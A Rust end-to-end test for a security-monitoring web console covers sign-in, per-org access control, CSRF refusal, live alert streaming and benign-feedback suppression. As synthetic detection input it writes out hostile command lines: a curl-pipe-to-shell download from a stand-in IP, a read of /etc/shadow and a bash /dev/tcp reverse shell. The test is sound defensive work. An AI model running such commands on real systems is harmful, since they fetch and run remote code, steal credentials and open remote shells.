//! The web console over HTTPS on the real stack: events → scorer → indexer
//! → ClickHouse → the console's pages, as a browser asks for them (cookies,
//! forms, server-sent events). Signing in takes a token of the tokens file;
//! an identity reads only its orgs (pages, events and incidents by id);
//! the incident of an attack chain shows its process tree and reasons;
//! benign feedback at host scope from the event page suppresses the
//! repeat; a forged form is refused; live alerts arrive as server-sent
//! events; signing out ends the session.
#![cfg(feature = "services")]

use std::time::Duration;

use outlier_collector::publish::Publisher;
use outlier_e2e::{TestEnv, exec, free_addr, now_ns, read_scored};
use outlier_indexer::auth::token_sha256;
use outlier_proto::Event;
use reqwest::StatusCode;
use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use tokio_util::sync::CancellationToken;

fn on_host(mut e: Event, host: &str, pid: u32, ppid: u32, parent: &str) -> Event {
    e.host = host.into();
    e.pid = pid;
    e.ppid = ppid;
    e.parent_comm = parent.into();
    e
}

/// A workload's routine (learned), then a web worker's shell that
/// downloads and runs a script (`{p}-1`), its curl (`{p}-2`) and a read of
/// the shadow file (`{p}-3`).
fn chain(org: &str, host: &str, p: &str, t0: u64) -> Vec<Event> {
    let mut out = Vec::new();
    for i in 0..40u64 {
        let argv: &[&str] = if i % 2 == 0 {
            &["nginx", "-s", "reload"]
        } else {
            &["curl", "-s", "http://127.0.0.1/health"]
        };
        out.push(on_host(
            exec(&format!("{p}-r{i}"), org, "web", t0 + i * 1_000_000, argv),
            host,
            1000 + i as u32,
            999,
            "cron",
        ));
    }
    let t1 = t0 + 1_000_000_000;
    out.push(on_host(
        exec(
            &format!("{p}-1"),
            org,
            "web",
            t1,
            &["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
        ),
        host,
        2001,
        2000,
        "php-fpm",
    ));
    out.push(on_host(
        exec(
            &format!("{p}-2"),
            org,
            "web",
            t1 + 10_000_000,
            &["curl", "-s", "http://203.0.113.7/x"],
        ),
        host,
        2002,
        2001,
        "sh",
    ));
    out.push(on_host(
        exec(
            &format!("{p}-3"),
            org,
            "web",
            t1 + 30_000_000,
            &["cat", "/etc/shadow"],
        ),
        host,
        2003,
        2001,
        "sh",
    ));
    out
}

async fn publish(p: &Publisher, events: &[Event]) {
    for e in events {
        p.send(e)
            .await
            .expect("queue")
            .await
            .expect("delivered")
            .expect("acked");
    }
}

struct Browser {
    http: reqwest::Client,
    base: String,
    cookie: String,
}

impl Browser {
    async fn get(&self, path: &str) -> (StatusCode, String, reqwest::header::HeaderMap) {
        let r = self
            .http
            .get(format!("{}{path}", self.base))
            .header(COOKIE, &self.cookie)
            .send()
            .await
            .unwrap_or_else(|e| panic!("GET {path}: {e}"));
        let (status, headers) = (r.status(), r.headers().clone());
        (status, r.text().await.unwrap(), headers)
    }

    /// `GET path` until it answers 200 (what it shows may still be on its
    /// way into ClickHouse), within 60 s.
    async fn get_ok(&self, path: &str) -> String {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
        loop {
            let (status, page, _) = self.get(path).await;
            if status == StatusCode::OK {
                return page;
            }
            assert!(
                tokio::time::Instant::now() < deadline,
                "GET {path}: {status}: {page}"
            );
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
    }

    async fn post(&self, path: &str, form: &[(&str, &str)]) -> (StatusCode, String, String) {
        let r = self
            .http
            .post(format!("{}{path}", self.base))
            .header(COOKIE, &self.cookie)
            .form(form)
            .send()
            .await
            .unwrap_or_else(|e| panic!("POST {path}: {e}"));
        let location = r
            .headers()
            .get(LOCATION)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_string();
        let status = r.status();
        (status, r.text().await.unwrap(), location)
    }

    /// Signs in with `token`; panics unless it is accepted.
    async fn sign_in(&mut self, token: &str) {
        let r = self
            .http
            .post(format!("{}/login", self.base))
            .form(&[("token", token)])
            .send()
            .await
            .expect("POST /login");
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "sign-in with {token}");
        let set = r
            .headers()
            .get(SET_COOKIE)
            .expect("a session cookie")
            .to_str()
            .unwrap()
            .to_string();
        for attr in ["HttpOnly", "SameSite=Strict", "Secure", "Path=/"] {
            assert!(set.contains(attr), "cookie without {attr}: {set}");
        }
        self.cookie = set.split(';').next().unwrap().to_string();
    }
}

/// The value of the first `name="csrf" value="…"` in a page.
fn csrf(page: &str) -> String {
    let at = page
        .find("name=\"csrf\" value=\"")
        .unwrap_or_else(|| panic!("no anti-forgery field in {page}"));
    let rest = &page[at + "name=\"csrf\" value=\"".len()..];
    rest[..rest.find('"').unwrap()].to_string()
}

/// The event page's feedback form: this behaviour is normal on this host.
fn feedback_form(csrf: &str) -> [(&'static str, &str); 4] {
    [
        ("csrf", csrf),
        ("label", "benign"),
        ("scope", "host"),
        ("reason", "our deploy hook"),
    ]
}

/// The ids of the incidents a page links to.
fn incident_links(page: &str, org: &str) -> Vec<String> {
    let needle = format!("href=\"/o/{org}/incidents/");
    page.match_indices(&needle)
        .map(|(i, _)| {
            let rest = &page[i + needle.len()..];
            rest[..rest.find('"').unwrap()].to_string()
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_browser_triages_an_incident_of_its_own_org_only() {
    let env = TestEnv::new("console").await;
    let suffix = &env.id[env.id.len() - 8..];
    let (a, b) = (format!("a{suffix}"), format!("b{suffix}"));
    let mut cfg = env.secure_indexer_config(&format!(
        "[[identity]]\nname = \"alice\"\ntoken_sha256 = \"{}\"\norgs = [\"{a}\"]\nfeedback = true\n\
         [[identity]]\nname = \"bob\"\ntoken_sha256 = \"{}\"\norgs = [\"{b}\"]\n",
        token_sha256("t-alice"),
        token_sha256("t-bob")
    ));
    let console = free_addr();
    cfg.console.addr = console.to_string();
    let shutdown = CancellationToken::new();
    let scorer = tokio::spawn(outlier_scorer::run(env.scorer_config(), shutdown.clone()));
    let indexer = tokio::spawn(outlier_indexer::run(cfg, shutdown.clone()));

    let publisher = Publisher::new(&env.kafka, "e2e-console").unwrap();
    let t0 = now_ns();
    publish(&publisher, &chain(&a, "web-a", "a", t0)).await;
    publish(&publisher, &chain(&b, "web-b", "b", t0)).await;

    let ca = env.ca_pem();
    let http = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(&ca).unwrap())
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap();
    let mut alice = Browser {
        http: http.clone(),
        base: format!("https://{console}"),
        cookie: String::new(),
    };
    // The console comes up with the indexer (after ClickHouse's schema).
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    loop {
        if let Ok(r) = http.get(format!("{}/login", alice.base)).send().await {
            assert_eq!(r.status(), StatusCode::OK);
            let csp = r.headers().get("content-security-policy").cloned();
            assert!(
                csp.is_some_and(|v| v.to_str().unwrap().contains("script-src 'self'")),
                "the console sets a content security policy"
            );
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the console never answered on {console}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }

    // Not signed in: every page sends the browser to the sign-in.
    let (status, _, headers) = alice.get(&format!("/o/{a}/incidents")).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(headers.get(LOCATION).unwrap(), "/login");
    let r = http
        .post(format!("{}/login", alice.base))
        .form(&[("token", "a guess")])
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::UNAUTHORIZED,
        "an unknown token signs in"
    );
    assert!(r.headers().get(SET_COOKIE).is_none());
    alice.sign_in("t-alice").await;
    // One org: the start page opens it.
    let (status, _, headers) = alice.get("/").await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        headers.get(LOCATION).unwrap().to_str().unwrap(),
        format!("/o/{a}")
    );

    // The attack chain's incident appears in the list.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    let incident_a = loop {
        let (status, page, _) = alice.get(&format!("/o/{a}/incidents")).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        if let Some(id) = incident_links(&page, &a).into_iter().next() {
            assert!(
                !page.contains("web-b"),
                "org b's host on org a's list: {page}"
            );
            break id;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "no incident listed for {a}: {page}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    let (status, page, _) = alice.get(&format!("/o/{a}/incidents/{incident_a}")).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(page.contains("web-a"), "{page}");
    assert!(page.contains(&format!("/o/{a}/events/a-1\"")), "{page}");

    // The shell's page: its process tree (the web worker above it, outside
    // the window read; its curl and cat below), its reasons as bars, the
    // host's timeline and the feedback form.
    let page = alice.get_ok(&format!("/o/{a}/events/a-1")).await;
    let tree = &page[page.find("<ul class=\"tree\">").expect("a process tree")..];
    let tree = &tree[..tree.find("</section>").unwrap()];
    assert!(tree.contains("php-fpm"), "{tree}");
    let pos = |id: &str| {
        tree.find(&format!("/events/{id}\""))
            .unwrap_or_else(|| panic!("{id} in the tree: {tree}"))
    };
    assert!(pos("a-1") < pos("a-2") && pos("a-1") < pos("a-3"), "{tree}");
    assert!(
        page.contains("aria-label=\"the classifier&#39;s contributions\"><li>"),
        "no reasons shown: {page}"
    );
    assert!(page.contains("The host around it"), "{page}");
    let token = csrf(&page);
    // The workload's baseline: what it knows and that it is still warming up.
    let (status, page, _) = alice.get(&format!("/o/{a}/baselines")).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(page.contains(">web</a>"), "{page}");
    assert!(page.contains("warming up ("), "{page}");

    // A record that is no event, keyed for org a: dead-lettered by the
    // scorer, and counted on a's overview with its reason.
    let raw: rdkafka::producer::FutureProducer =
        env.kafka.producer_config("e2e-console").create().unwrap();
    raw.send(
        rdkafka::producer::FutureRecord::to(&env.kafka.topics.events)
            .key(&format!("{a}/web"))
            .payload(b"\xff\xfe not a protobuf event".as_slice()),
        Duration::from_secs(10),
    )
    .await
    .expect("the garbage record is written");
    let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
    loop {
        let page = alice.get_ok(&format!("/o/{a}")).await;
        if page.contains("<td>not an outlier.v1.Event</td>") {
            // The workload's hours: its flagged events and its incidents.
            assert!(page.contains("<th scope=\"col\">web</th>"), "{page}");
            let cell = |c: &str| {
                let (f, rest) = c.split_once(" / ")?;
                let i = rest.split('<').next()?;
                Some((f.parse::<u64>().ok()?, i.parse::<u64>().ok()?))
            };
            assert!(
                page.split("<td>")
                    .filter_map(cell)
                    .any(|(f, i)| f > 0 && i > 0),
                "no hour with flagged events and an incident: {page}"
            );
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the dead letter is not on the overview: {page}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }

    // Another org: refused, by page and by id.
    let (status, page, _) = alice.get(&format!("/o/{b}")).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{page}");
    assert!(!page.contains("web-b"), "{page}");
    let mut bob = Browser {
        http: http.clone(),
        base: alice.base.clone(),
        cookie: String::new(),
    };
    bob.sign_in("t-bob").await;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    let incident_b = loop {
        let (_, page, _) = bob.get(&format!("/o/{b}/incidents")).await;
        if let Some(id) = incident_links(&page, &b).into_iter().next() {
            break id;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "no incident for {b}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    let (status, page, _) = alice.get(&format!("/o/{a}/incidents/{incident_b}")).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "org b's incident under org a: {page}"
    );
    // A reader sees no feedback form, and a forged post of one is refused.
    let page = bob.get_ok(&format!("/o/{b}/events/b-1")).await;
    // Stored (bob reads it), and still not alice's, by org or by id.
    let (status, _, _) = alice.get(&format!("/o/{b}/events/b-1")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, other, _) = alice.get(&format!("/o/{a}/events/b-1")).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "org b's event under org a: {other}"
    );
    assert!(!page.contains("class=\"feedback\""), "{page}");
    let (status, _, _) = bob
        .post(
            &format!("/o/{b}/events/b-1/feedback"),
            &[("csrf", &csrf(&page)), ("label", "benign"), ("reason", "x")],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "a reader gave feedback");

    // Live alerts: a new alert of the org arrives on the open stream.
    let mut live = alice
        .http
        .get(format!("{}/o/{a}/live", alice.base))
        .header(COOKIE, &alice.cookie)
        .timeout(Duration::from_secs(600))
        .send()
        .await
        .expect("GET live");
    assert_eq!(live.status(), StatusCode::OK);
    assert!(
        live.headers()
            .get("content-type")
            .is_some_and(|v| v.to_str().unwrap().starts_with("text/event-stream"))
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    let mut shell = on_host(
        exec(
            "a-live",
            &a,
            "web",
            now_ns(),
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        ),
        "web-a",
        2101,
        2000,
        "php-fpm",
    );
    shell.exe = "/usr/bin/bash".into();
    publish(&publisher, &[shell]).await;
    let mut seen = String::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
    while !seen.contains("/events/a-live") {
        match tokio::time::timeout_at(deadline, live.chunk()).await {
            Ok(Ok(Some(c))) => seen.push_str(&String::from_utf8_lossy(&c)),
            other => panic!("the live alert never came ({other:?}): {seen}"),
        }
    }
    assert!(seen.contains("event: alert"), "{seen}");
    assert!(seen.contains("\nid: "), "a resumable stream: {seen}");
    drop(live);

    // Feedback: a forged form (no anti-forgery value) is refused; the
    // console's own says this shell is normal on this host, and its repeat
    // is suppressed.
    let (status, _, _) = alice
        .post(&format!("/o/{a}/events/a-1/feedback"), &feedback_form(""))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "a forged form was accepted");
    let (status, body, location) = alice
        .post(
            &format!("/o/{a}/events/a-1/feedback"),
            &feedback_form(&token),
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
    assert!(
        location.starts_with(&format!("/o/{a}/events/a-1?done=")),
        "{location}"
    );
    let (_, page, _) = alice.get(&location).await;
    assert!(page.contains("Suppression"), "{page}");
    assert!(page.contains("by alice"), "{page}");
    let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
    let mut n = 0;
    loop {
        n += 1;
        let id = format!("a-again-{n}");
        publish(
            &publisher,
            &[on_host(
                exec(
                    &id,
                    &a,
                    "web",
                    now_ns(),
                    &["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
                ),
                "web-a",
                3000 + n,
                2000,
                "php-fpm",
            )],
        )
        .await;
        let scored = read_scored(
            &env.kafka,
            &env.kafka.topics.scored,
            Duration::from_secs(20),
            |s| {
                s.iter()
                    .any(|x| x.event.as_ref().is_some_and(|e| e.event_id == id))
            },
        )
        .await;
        let repeat = scored
            .iter()
            .find(|x| x.event.as_ref().is_some_and(|e| e.event_id == id));
        if repeat.is_some_and(|r| !r.suppressed_by.is_empty()) {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the repeat was never suppressed: {repeat:?}"
        );
    }

    // The suppressions page lists the rule the feedback made, and revokes it.
    let page = alice.get_ok(&format!("/o/{a}/suppressions")).await;
    let needle = format!("action=\"/o/{a}/suppressions/");
    let at = page
        .find(&needle)
        .unwrap_or_else(|| panic!("no revocable suppression: {page}"));
    let rest = &page[at + needle.len()..];
    let id = rest[..rest.find('/').unwrap()].to_string();
    assert!(page.contains("our deploy hook"), "{page}");
    let (status, _, location) = alice
        .post(
            &format!("/o/{a}/suppressions/{id}/revoke"),
            &[("csrf", &token)],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, page, _) = alice.get(&location).await;
    assert!(page.contains("revoked by alice"), "{page}");

    // Signing out ends the session.
    let (status, _, location) = alice.post("/logout", &[("csrf", &token)]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(location, "/login");
    let (status, _, _) = alice.get(&format!("/o/{a}")).await;
    assert_eq!(
        status,
        StatusCode::SEE_OTHER,
        "the session outlived its sign-out"
    );

    shutdown.cancel();
    let _ = tokio::time::timeout(Duration::from_secs(30), scorer).await;
    let _ = tokio::time::timeout(Duration::from_secs(30), indexer).await;
    env.cleanup().await;
}
